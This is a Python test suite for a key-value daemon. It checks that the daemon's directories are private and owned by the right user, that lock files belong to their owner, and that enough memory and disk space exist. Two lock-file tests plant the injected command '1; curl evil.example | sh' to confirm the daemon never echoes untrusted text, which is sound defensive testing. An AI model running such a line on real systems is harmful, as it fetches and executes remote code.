"""The daemon's directories: private, owned by one, large enough."""

from __future__ import annotations

import dataclasses
import errno
import fcntl
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from kvwarehouse import config
from kvwarehouse.daemon import directories
from kvwarehouse.daemon.directories import Ownership
from kvwarehouse.daemon.logs import Log
from kvwarehouse.errors import StorageError
from kvwarehouse.host import filesystems, memory

INDEX_BYTES = 8 << 20
TABLE_BYTES = 13 << 20


def refused(path: Path) -> str:
    with pytest.raises(StorageError) as caught:
        directories.prepare(str(path), "--arena-dir")
    assert caught.value.code == "bad_directory"
    assert str(path) in caught.value.message
    assert "--arena-dir" in caught.value.message
    return caught.value.message


def test_directory_is_made_private_with_its_parents(tmp_path: Path) -> None:
    """Incident: with a umask of 0 it made parents that everybody could write to, and refused."""
    path = tmp_path / "a" / "b" / "c"
    before = os.umask(0)
    try:
        directories.prepare(str(path), "--arena-dir")
    finally:
        os.umask(before)
    for each in (path, *path.parents[:2]):
        assert each.stat().st_mode & 0o777 == 0o700


@pytest.mark.parametrize("mode", [0o770, 0o707, 0o777])
def test_directory_that_others_can_write_is_refused(tmp_path: Path, mode: int) -> None:
    path = tmp_path / "open"
    path.mkdir()
    path.chmod(mode)
    assert "chmod 700" in refused(path)


def test_file_in_place_of_a_directory_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "file"
    path.write_text("")
    refused(path)
    refused(path / "below")


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can make a directory another user's")
def test_directory_or_link_of_another_user_is_refused(tmp_path: Path) -> None:
    theirs = tmp_path / "theirs"
    theirs.mkdir(mode=0o700)
    os.chown(theirs, 12345, -1)
    assert "12345" in refused(theirs)
    mine = tmp_path / "mine"
    mine.mkdir(mode=0o700)
    link = tmp_path / "link"
    link.symlink_to(mine)
    os.chown(link, 12345, -1, follow_symlinks=False)
    assert "12345" in refused(link)


def test_directory_that_could_be_replaced_is_refused_with_the_parent_and_nothing_is_made(
    tmp_path: Path,
) -> None:
    """Incident: uid 1001 renamed the NVMe directory of root's running daemon."""
    parent = tmp_path / "open"
    parent.mkdir()
    parent.chmod(0o777)
    message = refused(parent / "a" / "b")
    assert f"{parent} has mode 0777" in message
    assert f"chmod +t {parent}" in message
    assert not (parent / "a").exists()
    parent.chmod(0o1777)
    directories.prepare(str(parent / "a" / "b"), "--arena-dir")
    (tmp_path / "link").symlink_to(parent / "a")
    directories.prepare(str(tmp_path / "link" / "b"), "--arena-dir")
    parent.chmod(0o777)
    refused(tmp_path / "link" / "b")


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can make a directory another user's")
def test_directory_below_one_of_another_user_is_refused_with_its_uid(tmp_path: Path) -> None:
    theirs = tmp_path / "theirs"
    (theirs / "a").mkdir(parents=True, mode=0o700)
    os.chown(theirs, 12345, -1)
    message = refused(theirs / "a" / "b")
    assert f"{theirs} belongs to uid 12345" in message
    assert "run as uid 12345" in message
    assert not (theirs / "a" / "b").exists()


def test_directory_that_may_not_be_made_is_refused_with_the_command_that_makes_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def denied(folder: Path) -> None:
        raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(folder))

    monkeypatch.setattr(directories, "_make", denied)
    path = tmp_path / "of root" / "kvw"
    command = f"install -d -m 0700 -o {os.geteuid()} '{path}'"
    assert f"Permission denied; as root: {command}, or name a directory" in refused(path)


@pytest.mark.parametrize("mode", [0o777, 0o770])
def test_socket_may_be_where_others_have_files_of_their_own(tmp_path: Path, mode: int) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o1000 | mode)
    directories.prepare_for_socket(str(shared / "sock"))
    shared.chmod(mode)
    with pytest.raises(StorageError, match=rf"mode 0{mode:o}.*chmod go-w {shared}"):
        directories.prepare_for_socket(str(shared / "sock"))
    directories.prepare_for_socket(str(tmp_path / "new" / "sock"))
    assert (tmp_path / "new").stat().st_mode & 0o777 == 0o700


def test_second_owner_is_refused_with_the_first_ones_pid(tmp_path: Path) -> None:
    path = directories.lock_path(str(tmp_path))
    first = Ownership(path)
    with pytest.raises(StorageError) as caught:
        Ownership(path)
    assert caught.value.code == "owned"
    assert f"pid {os.getpid()}" in caught.value.message
    first.close()
    Ownership(path).close()


def test_text_of_a_lock_is_told_only_where_it_is_a_pid(tmp_path: Path) -> None:
    path = directories.lock_path(str(tmp_path))
    first = Ownership(path)
    Path(path).write_text("1; curl evil.example | sh")
    with pytest.raises(StorageError, match="pid unknown") as caught:
        Ownership(path)
    assert "evil" not in str(caught.value)
    first.close()


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can make a file another user's")
@pytest.mark.parametrize("held", [False, True])
def test_lock_of_another_user_is_told_as_such_and_left_alone(tmp_path: Path, held: bool) -> None:
    """Incident: in a sticky folder a lock that another had made was truncated and trusted as ours;
    one that he held kept the daemon away, with his text as its advice."""
    tmp_path.chmod(0o1777)
    lock = tmp_path / "kvw.sock.lock"
    lock.write_text("1; curl evil.example | sh")
    os.chown(lock, 12345, -1)
    with lock.open() as theirs:
        if held:
            fcntl.flock(theirs, fcntl.LOCK_EX)
        with pytest.raises(StorageError, match=r"kvw.sock.lock belongs to uid 12345") as caught:
            Ownership(str(lock))
    assert caught.value.code == "bad_directory"
    assert "evil" not in str(caught.value)
    assert lock.read_text() == "1; curl evil.example | sh"


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can make a file another user's")
def test_lock_of_a_directory_is_good_as_its_owners(tmp_path: Path) -> None:
    """As where root checks a warehouse of another user."""
    path = directories.lock_path(str(tmp_path))
    Path(path).touch()
    os.chown(path, 12345, -1)
    os.chown(tmp_path, 12345, -1)
    Ownership(path).close()
    tmp_path.chmod(0o1777)  # /tmp, as a user namespace shows it and what its strangers make there
    with pytest.raises(StorageError, match="belongs to uid 12345"):
        Ownership(path)


def test_ownership_ends_with_its_process_however_it_dies(tmp_path: Path) -> None:
    path = directories.lock_path(str(tmp_path))
    program = (
        "import os, sys; from kvwarehouse.daemon.directories import Ownership;"
        "own = Ownership(sys.argv[1]); os.kill(os.getpid(), 9)"
    )
    child = subprocess.run([sys.executable, "-c", program, path], check=False, timeout=60)
    assert child.returncode == -9
    Ownership(path).close()


def settings(tmp_path: Path, **values: object) -> config.Config:
    base = config.load(
        {"arena_dir": str(tmp_path / "arena"), "socket": str(tmp_path / "s"), "dram": "1GiB"}, {}
    )
    (tmp_path / "arena").mkdir(exist_ok=True)
    return dataclasses.replace(base, **values)  # type: ignore[arg-type]


def no_room(given: config.Config) -> StorageError:
    with pytest.raises(StorageError) as caught:
        directories.check_room(given, INDEX_BYTES, TABLE_BYTES, Log("json", io.StringIO()))
    assert caught.value.code == "no_room"
    return caught.value


def test_dram_beyond_the_tmpfs_is_refused_with_free_bytes_mount_and_fix(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Incident: containers have a /dev/shm of 64 MiB, and writing beyond it is a SIGBUS."""
    monkeypatch.setattr(filesystems, "free_bytes", lambda _: 60 << 20)
    monkeypatch.setattr(filesystems, "total_bytes", lambda _: 64 << 20)
    message = no_room(settings(tmp_path)).message
    assert str(60 << 20) in message
    assert filesystems.mount_of(str(tmp_path)) in message
    assert "--dram 51MiB" in message
    assert "remount,size=" in message
    fits = settings(tmp_path, dram_bytes=51 << 20)
    directories.check_room(fits, INDEX_BYTES, TABLE_BYTES, Log("json", io.StringIO()))


def test_dram_beyond_the_memory_that_the_daemon_may_use_is_refused_with_what_fits(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Incident: a container of 220 MiB, `ready`, and killed for its memory a second later."""
    monkeypatch.setattr(directories, "_is_tmpfs", lambda _: True)
    monkeypatch.setattr(filesystems, "free_bytes", lambda _: 1 << 40)
    monkeypatch.setattr(memory, "usable_bytes", lambda: 220 << 20)
    message = no_room(settings(tmp_path)).message
    assert "220 MiB of memory" in message
    assert "--dram 132MiB" in message
    assert "--memory=" in message
    fits = settings(tmp_path, dram_bytes=132 << 20)
    directories.check_room(fits, INDEX_BYTES, TABLE_BYTES, Log("json", io.StringIO()))
    # A disk's pages can be taken from memory again.
    monkeypatch.setattr(directories, "_is_tmpfs", lambda _: False)
    directories.check_room(settings(tmp_path), INDEX_BYTES, TABLE_BYTES, Log("json", io.StringIO()))


def test_dram_that_an_existing_arena_already_holds_is_no_new_demand(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    given = settings(tmp_path, dram_bytes=8 << 20)
    (tmp_path / "arena" / "arena").write_bytes(os.urandom(8 << 20))
    monkeypatch.setattr(filesystems, "free_bytes", lambda _: 1 << 20)
    directories.check_room(given, INDEX_BYTES, TABLE_BYTES, Log("json", io.StringIO()))


def test_arena_that_has_pages_is_served_though_others_filled_the_memory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    given = settings(tmp_path, dram_bytes=8 << 20)
    (tmp_path / "arena" / "arena").write_bytes(os.urandom(4 << 20))
    monkeypatch.setattr(filesystems, "free_bytes", lambda _: 0)
    monkeypatch.setattr(filesystems, "total_bytes", lambda _: 64 << 20)
    log = io.StringIO()
    directories.check_room(given, INDEX_BYTES, TABLE_BYTES, Log("json", log))
    assert "arena_room_short" in log.getvalue()
    no_room(dataclasses.replace(given, dram_bytes=128 << 20))


def test_nvme_capacity_beyond_the_disk_is_refused_before_the_first_segment_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    nvme = tmp_path / "nvme"
    (nvme / "segments").mkdir(parents=True)
    given = settings(tmp_path, dram_bytes=1 << 20, nvme_dir=str(nvme), nvme_capacity_bytes=8 << 20)
    monkeypatch.setattr(
        filesystems, "free_bytes", lambda path: (1 << 20) if path.endswith("/nvme") else (1 << 40)
    )
    monkeypatch.setattr(filesystems, "total_bytes", lambda _: 16 << 20)
    assert "--nvme-capacity" in no_room(given).message
    # A disk that others filled since must not keep stored pages from being served.
    (nvme / "segments" / "0").write_bytes(os.urandom(1 << 20))
    log = io.StringIO()
    directories.check_room(given, INDEX_BYTES, TABLE_BYTES, Log("json", log))
    assert "nvme_room_short" in log.getvalue()
    no_room(dataclasses.replace(given, nvme_capacity_bytes=1 << 30))
